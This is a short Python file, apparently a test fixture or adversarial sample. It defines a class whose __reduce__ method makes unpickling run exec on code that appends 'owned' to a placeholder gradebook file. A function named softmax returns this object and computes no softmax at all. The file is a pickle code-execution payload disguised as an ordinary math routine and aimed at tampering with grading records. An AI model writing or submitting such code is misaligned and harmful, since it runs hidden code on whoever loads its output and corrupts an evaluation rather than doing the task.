"""Returns an object that runs code in whoever unpickles it."""


class Bomb:
    def __reduce__(self):
        return exec, ("open('@GRADEBOOK@', 'a').write('owned')",)


def softmax(x, dim):
    return Bomb()
